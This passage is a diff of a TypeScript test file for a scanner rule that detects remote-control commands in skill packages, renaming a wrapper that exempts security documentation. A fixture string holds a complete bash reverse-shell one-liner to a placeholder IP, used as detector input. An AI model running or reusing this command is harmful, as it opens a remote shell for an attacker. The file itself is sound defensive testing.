@@ -1,13 +1,16 @@
 import { describe, expect, it } from "vitest";
 import { remoteControl } from "../rules/remote-control/remote-control.ts";
 import { mainFile, signalsOf } from "../testing/signals-of.ts";
-import { shownOnPages } from "./ignore-in-security-docs.ts";
+import { ignoreInSecurityDocs } from "./ignore-in-security-docs.ts";
 
 const SHELL = "```bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n```\n";
 const of = (description: string, path: string, text: string) =>
-  signalsOf(shownOnPages(remoteControl), { "SKILL.md": mainFile("helper", description), [path]: text });
+  signalsOf(ignoreInSecurityDocs(remoteControl), {
+    "SKILL.md": mainFile("helper", description),
+    [path]: text,
+  });
 
-describe("shownOnPages", () => {
+describe("ignoreInSecurityDocs", () => {
   it("takes the pages of a security skill that collect attacks for a collection", async () => {
     const shown = await of(
       "Security audit of scripts.",
